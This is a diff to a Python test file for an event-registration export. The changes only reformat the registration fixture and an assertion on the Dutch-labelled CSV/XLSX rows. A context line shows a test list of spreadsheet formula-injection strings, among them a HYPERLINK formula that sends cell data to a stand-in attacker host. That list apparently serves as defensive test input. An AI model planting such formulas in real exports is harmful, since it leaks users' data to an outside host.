@@ -24,8 +24,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")', "==1+1", "+3
 def event(client, make_user):
     client.force_login(make_user(CIVIL_SERVANT))
     event = meeting(capacity=10, slug="netwerkavond")
-    RegistrationFactory(event=event, name="Ioana Popescu", email="ioana@example.org", language="de",
-                        checked_in=True)
+    RegistrationFactory(event=event, name="Ioana Popescu", email="ioana@example.org", language="de", checked_in=True)
     RegistrationFactory(event=event, name="Hans", email="hans@example.org", status="waiting")
     return event
 
@@ -54,9 +53,14 @@ def test_the_export_has_the_organisers_columns_in_dutch(client, event):
     ioana, hans = event.registrations.order_by("created", "pk")
     for rows in (csv_rows(export(client, event, "csv")), xlsx_rows(export(client, event, "xlsx"))):
         assert rows[0] == HEADER
-        assert rows[1] == ["Ioana Popescu", "ioana@example.org", dutch("confirmed"),
-                           timezone.localtime(ioana.created).strftime("%Y-%m-%d %H:%M"), dutch("yes"),
-                           "de"]
+        assert rows[1] == [
+            "Ioana Popescu",
+            "ioana@example.org",
+            dutch("confirmed"),
+            timezone.localtime(ioana.created).strftime("%Y-%m-%d %H:%M"),
+            dutch("yes"),
+            "de",
+        ]
         assert rows[2][:3] == ["Hans", "hans@example.org", dutch("on the waiting list")]
         assert rows[2][4:] == [dutch("no"), "nl"]
         assert len(rows) == 3
